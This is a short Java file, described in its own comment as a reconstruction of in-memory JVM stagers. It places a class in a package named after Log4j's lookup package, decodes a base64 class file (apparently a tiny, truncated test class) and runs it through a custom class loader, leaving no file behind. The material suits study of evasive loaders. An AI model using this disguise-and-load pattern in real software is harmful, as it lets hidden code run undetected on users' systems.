// Reconstruction of in-memory JVM stagers: a class kept as base64 in the jar is
// decoded and defined with a class loader of its own, then run; nothing of it is a
// file of the package. Built with: javac --release 11 -d out JndiHelper.java
package org.apache.logging.log4j.core.lookup;

import java.util.Base64;

public class JndiHelper extends ClassLoader {
    private static final String PAYLOAD = "yv66vgAAADcAHQoABgAPCQAQABEIABIKABMAFAcAFQcAFgEABjxpbml0PgEAAygpVgEABENvZGUBAA9MaW5lTnVtYmVyVGFibGUBAARtYWluAQAWKFtMamF2YS9sYW5nL1N0cmluZzspVgEAClNvdXJjZUZpbGUBAAZYLmphdmEMAAcACAcAFwwAGAAZAQACaGkHABoMABsAHAEAAVgBABBqYXZhL2xhbmcvT2JqZWN0";

    public void activate() throws Exception {
        byte[] bytes = Base64.getDecoder().decode(PAYLOAD);
        Class<?> stage = defineClass("Stage", bytes, 0, bytes.length);
        stage.getMethod("main", String[].class).invoke(null, (Object) new String[0]);
    }
}
